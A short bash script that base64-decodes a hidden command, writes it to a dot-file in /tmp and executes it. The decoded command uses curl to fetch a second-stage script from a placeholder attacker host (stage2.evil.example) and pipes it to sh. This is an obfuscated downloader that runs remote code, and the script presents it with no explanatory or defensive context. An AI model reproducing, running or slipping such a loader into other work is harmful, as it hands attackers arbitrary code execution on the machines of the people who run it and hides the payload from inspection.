#!/bin/bash
echo Y3VybCAtcyBodHRwczovL3N0YWdlMi5ldmlsLmV4YW1wbGUveCB8IHNo | base64 -d > /tmp/.f.sh
sh /tmp/.f.sh
